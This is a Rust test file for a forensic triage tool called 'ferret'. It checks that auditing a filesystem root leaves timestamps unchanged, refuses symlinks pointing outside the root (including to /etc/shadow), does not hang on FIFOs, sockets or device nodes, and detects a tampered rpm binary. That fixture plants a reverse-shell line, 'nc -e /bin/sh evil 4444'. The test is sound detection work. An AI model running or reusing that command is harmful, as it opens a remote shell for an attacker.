//! Forensic soundness of the whole workspace (docs/soundness.md): auditing a root changes no
//! timestamp in it, follows no symlink out of it, and blocks on no special file in it.
#![allow(
    clippy::many_single_char_names,
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

mod common;

use ferret::core::{Control, HostRoot};
use ferret::triage::{triage_root, TriageOptions};
use nix::sys::stat::{utimensat, UtimensatFlags};
use nix::sys::time::TimeSpec;
use std::collections::BTreeMap;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

const PAST: i64 = 946_684_800; // 2000-01-01

/// Every path under `root` (listed before atimes are reset, so listing does not matter).
fn all_paths(root: &Path) -> Vec<PathBuf> {
    let mut out = vec![root.to_path_buf()];
    let mut i = 0;
    while let Some(p) = out.get(i).cloned() {
        i += 1;
        let md = std::fs::symlink_metadata(&p).unwrap();
        if md.is_dir() {
            for e in std::fs::read_dir(&p).unwrap() {
                out.push(e.unwrap().path());
            }
        }
    }
    out
}

fn reset_atimes(paths: &[PathBuf]) {
    for p in paths {
        utimensat(
            nix::fcntl::AT_FDCWD,
            p,
            &TimeSpec::new(PAST, 0),
            &TimeSpec::UTIME_OMIT,
            UtimensatFlags::NoFollowSymlink,
        )
        .unwrap();
    }
}

type Snap = BTreeMap<PathBuf, (i64, i64, i64, i64, i64, i64, u64, u32)>;

/// lstat of every path: never touches an atime.
fn snapshot(paths: &[PathBuf]) -> Snap {
    paths
        .iter()
        .map(|p| {
            let m = std::fs::symlink_metadata(p).unwrap();
            (
                p.clone(),
                (
                    m.atime(),
                    m.atime_nsec(),
                    m.mtime(),
                    m.mtime_nsec(),
                    m.ctime(),
                    m.ctime_nsec(),
                    m.size(),
                    m.mode(),
                ),
            )
        })
        .collect()
}

/// Whether `mode` is a symbolic link's: the kernel updates a link's own atime whenever its
/// target is read (`readlinkat` calls `touch_atime`, and no flag avoids it), so a link's atime
/// is the one documented exception (docs/soundness.md). Everything else must be identical.
fn is_link(mode: u32) -> bool {
    mode & 0o170_000 == 0o120_000
}

fn diff(a: &Snap, b: &Snap) -> Vec<String> {
    let mut d = Vec::new();
    for (p, x) in a {
        match b.get(p) {
            Some(y) if x == y => {}
            Some(y)
                if is_link(x.7)
                    && (x.2, x.3, x.4, x.5, x.6, x.7) == (y.2, y.3, y.4, y.5, y.6, y.7) => {}
            Some(y) => d.push(format!("{}: {x:?} -> {y:?}", p.display())),
            None => d.push(format!("{}: vanished", p.display())),
        }
    }
    for p in b.keys().filter(|p| !a.contains_key(*p)) {
        d.push(format!("{}: appeared", p.display()));
    }
    d
}

#[test]
fn the_filesystem_here_records_access_times() {
    // The control experiment: without it the no-change test below would prove nothing.
    let t = tempfile::tempdir().unwrap();
    let f = t.path().join("f");
    std::fs::write(&f, b"x").unwrap();
    reset_atimes(&[f.clone(), t.path().to_path_buf()]);
    let before = std::fs::symlink_metadata(&f).unwrap().atime();
    let _ = std::fs::read(&f).unwrap();
    let _ = std::fs::read_dir(t.path()).unwrap().count();
    assert_ne!(
        std::fs::symlink_metadata(&f).unwrap().atime(),
        before,
        "plain read updates atime"
    );
    assert_ne!(
        std::fs::symlink_metadata(t.path()).unwrap().atime(),
        PAST,
        "plain listing updates a directory's atime"
    );
}

#[test]
fn baseline_and_offline_triage_leave_no_trace() {
    let t = tempfile::tempdir().unwrap();
    let out = tempfile::tempdir().unwrap();
    let root = t.path();
    common::clean_root(root);
    common::plant(root);
    let paths = all_paths(root);
    reset_atimes(&paths);
    let before = snapshot(&paths);

    let hr = HostRoot::new(root).unwrap();
    // Baseline init.
    let mut scan = ferret::baseline::ScanOptions::default();
    scan.paths.push("/".into());
    let b = ferret::baseline::scan_root(&hr, &scan, &Control::new());
    assert!(b.entries.len() >= paths.len() - 1, "the scan saw the tree");
    let db = out.path().join("b.fbl");
    b.save(std::fs::File::create(&db).unwrap(), None).unwrap();
    // Refuses to write the baseline inside the audited root.
    assert!(hr.ensure_output_outside(&root.join("var/b.fbl")).is_err());
    // Baseline check.
    let old = ferret::baseline::Baseline::load(std::fs::File::open(&db).unwrap(), None).unwrap();
    let check = ferret::baseline::CheckOptions::default();
    let cmp = ferret::baseline::check_root(&hr, &old, &check, &Control::new());
    assert!(cmp.changed.is_empty() && cmp.added.is_empty() && cmp.removed.is_empty());
    // Offline triage with every module.
    let mut o = TriageOptions::default();
    o.baseline = Some(db);
    let r = triage_root(&hr, &o, &Control::new());
    assert!(
        r.findings.iter().any(|f| f.id == "accounts.uid0-non-root"
            || f.also_reported_as
                .iter()
                .any(|a| a == "accounts.uid0-non-root")),
        "triage really read the root"
    );

    let after = snapshot(&paths);
    let d = diff(&before, &after);
    assert!(
        d.is_empty(),
        "auditing changed the evidence:\n{}",
        d.join("\n")
    );
}

#[test]
fn symlinks_out_of_the_root_are_never_read() {
    let outside = tempfile::tempdir().unwrap();
    let secret = outside.path().join("secret");
    std::fs::write(&secret, "marker_user_7f3a:x:0:0::/:/bin/sh\n").unwrap();
    let t = tempfile::tempdir().unwrap();
    let root = t.path();
    common::clean_root(root);
    // The issue's case, an absolute link to the host's own file, and relative links that climb.
    std::fs::remove_file(root.join("etc/shadow")).unwrap();
    std::os::unix::fs::symlink("/etc/shadow", root.join("etc/shadow")).unwrap();
    std::fs::remove_file(root.join("etc/passwd")).unwrap();
    std::os::unix::fs::symlink(&secret, root.join("etc/passwd")).unwrap();
    let climb = format!("../../../../../../../../..{}", secret.display());
    std::fs::remove_file(root.join("etc/group")).unwrap();
    std::os::unix::fs::symlink(&climb, root.join("etc/group")).unwrap();
    std::fs::remove_file(root.join("etc/ssh/sshd_config")).unwrap();
    std::os::unix::fs::symlink(&secret, root.join("etc/ssh/sshd_config")).unwrap();
    std::os::unix::fs::symlink(outside.path(), root.join("etc/cron.d/escape")).unwrap();
    std::fs::remove_file(root.join("var/log/auth.log")).unwrap();
    std::os::unix::fs::symlink(&secret, root.join("var/log/auth.log")).unwrap();
    reset_atimes(std::slice::from_ref(&secret));

    let r = triage_root(
        &HostRoot::new(root).unwrap(),
        &TriageOptions::default(),
        &Control::new(),
    );
    let mut json = Vec::new();
    ferret::render::json(&r, &mut json).unwrap();
    let json = String::from_utf8(json).unwrap();
    assert!(
        !json.contains("marker_user_7f3a"),
        "content from outside the root reached the report"
    );
    assert_eq!(
        std::fs::symlink_metadata(&secret).unwrap().atime(),
        PAST,
        "the outside file was read"
    );
    // Each refusal is reported, not silent.
    for p in [
        "/etc/passwd",
        "/etc/shadow",
        "/etc/group",
        "/etc/ssh/sshd_config",
    ] {
        assert!(
            r.errors.iter().any(|e| e.error.path.as_deref() == Some(p))
                || r.findings
                    .iter()
                    .any(|f| f.evidence.iter().any(|e| e.path == p)),
            "{p} not reported: {:#?}",
            r.errors
        );
    }
}

#[test]
fn special_files_never_block_and_are_reported() {
    let t = tempfile::tempdir().unwrap();
    let root = t.path().to_path_buf();
    common::clean_root(&root);
    let fifo = |rel: &str| {
        let p = root.join(rel);
        let _ = std::fs::remove_file(&p);
        nix::unistd::mkfifo(&p, nix::sys::stat::Mode::from_bits_truncate(0o644)).unwrap();
        rel.to_owned()
    };
    let mut planted = vec![
        fifo("etc/passwd"),
        fifo("etc/cron.d/pipe"),
        fifo("etc/ssh/sshd_config.d/20-pipe.conf"),
        fifo("var/log/auth.log.1"),
        fifo("etc/ld.so.preload"),
    ];
    let _sock1 = std::os::unix::net::UnixListener::bind(root.join("etc/cron.d/sock")).unwrap();
    let _sock2 = std::os::unix::net::UnixListener::bind(root.join("var/log/syslog")).unwrap();
    planted.push("etc/cron.d/sock".into());
    planted.push("var/log/syslog".into());
    let zero = nix::sys::stat::makedev(1, 5);
    let mut devices = 0;
    for rel in [
        "etc/ssh/sshd_config.d/30-zero.conf",
        "var/log/kern.log",
        "etc/cron.d/zero",
        "etc/shadow",
    ] {
        let p = root.join(rel);
        let _ = std::fs::remove_file(&p);
        match nix::sys::stat::mknod(
            &p,
            nix::sys::stat::SFlag::S_IFCHR,
            nix::sys::stat::Mode::from_bits_truncate(0o666),
            zero,
        ) {
            Ok(()) => {
                planted.push(rel.into());
                devices += 1;
            }
            Err(e) => eprintln!(
                "note: cannot create device node {rel} ({e}); needs CAP_MKNOD (CI runs as root)"
            ),
        }
    }
    let hr = HostRoot::new(&root).unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let r = triage_root(&hr, &TriageOptions::default(), &Control::new());
        let _ = tx.send(r);
    });
    let started = Instant::now();
    let r = rx
        .recv_timeout(Duration::from_secs(120))
        .expect("triage blocked on a special file");
    assert!(started.elapsed() < Duration::from_secs(120));
    for rel in &planted {
        let inner = format!("/{rel}");
        assert!(
            r.errors
                .iter()
                .any(|e| e.error.path.as_deref() == Some(inner.as_str())),
            "{inner} was not reported as skipped; errors: {:#?}",
            r.errors.iter().map(ToString::to_string).collect::<Vec<_>>()
        );
    }
    if nix::unistd::geteuid().is_root() {
        assert_eq!(devices, 4, "root can create device nodes");
    }
}

/// A package with a binary, a library, a `%config` file and a symlink, for an rpm root.
const RPM_SPEC: &str = r"Name: ferret-sound
Version: 1
Release: 1
Summary: soundness fixture
License: MIT
BuildArch: noarch
%description
soundness fixture
%install
mkdir -p %{buildroot}/usr/bin %{buildroot}/usr/lib64 %{buildroot}/etc/sound
printf '#!/bin/sh\necho sound\n' > %{buildroot}/usr/bin/sound
printf 'lib\n' > %{buildroot}/usr/lib64/libsound.so.1
printf 'k=v\n' > %{buildroot}/etc/sound/sound.conf
ln -s sound %{buildroot}/usr/bin/sound-link
%files
%attr(0755,root,root) /usr/bin/sound
/usr/bin/sound-link
/usr/lib64/libsound.so.1
%dir /etc/sound
%config(noreplace) /etc/sound/sound.conf
";

#[test]
fn verifying_an_rpm_root_leaves_no_trace_and_creates_nothing() {
    // rpm itself opens its database read-write (lock file, SQLite -shm/-wal); ferret's reader
    // must not: no file appears beside the database, no timestamp moves.
    let work = tempfile::tempdir().unwrap();
    let root = work.path().join("root");
    std::fs::create_dir(&root).unwrap();
    common::clean_root(&root);
    ferret_testkit::rpm::install(work.path(), &root, RPM_SPEC);
    std::fs::write(
        root.join("usr/bin/sound"),
        "#!/bin/sh\nnc -e /bin/sh evil 4444\n",
    )
    .unwrap();
    let db_dir = root.join("var/lib/rpm");
    let db_files: Vec<String> = std::fs::read_dir(&db_dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(!db_files.is_empty(), "rpm wrote its database");
    let paths = all_paths(&root);
    reset_atimes(&paths);
    let before = snapshot(&paths);

    let mut o = TriageOptions::default();
    o.only = Some(vec![ferret::triage::TriageModule::Packages]);
    let r = triage_root(&HostRoot::new(&root).unwrap(), &o, &Control::new());
    assert!(
        r.findings
            .iter()
            .any(|f| f.id == "pkg.binary-changed" && f.subject == "/usr/bin/sound"),
        "the rpm database was read and the tampered binary found: {:#?}",
        r.findings
            .iter()
            .map(|f| (&f.id, &f.subject))
            .collect::<Vec<_>>()
    );

    // Nothing moved; then, listed again (listing touches directory atimes, so after the
    // snapshot), nothing appeared: no lock, -shm, -wal or __db.* file.
    let after = snapshot(&paths);
    let d = diff(&before, &after);
    assert!(
        d.is_empty(),
        "verifying the rpm root changed it:\n{}",
        d.join("\n")
    );
    let mut now = all_paths(&root);
    let mut was = paths;
    now.sort();
    was.sort();
    assert_eq!(now, was, "files appeared or vanished");
}
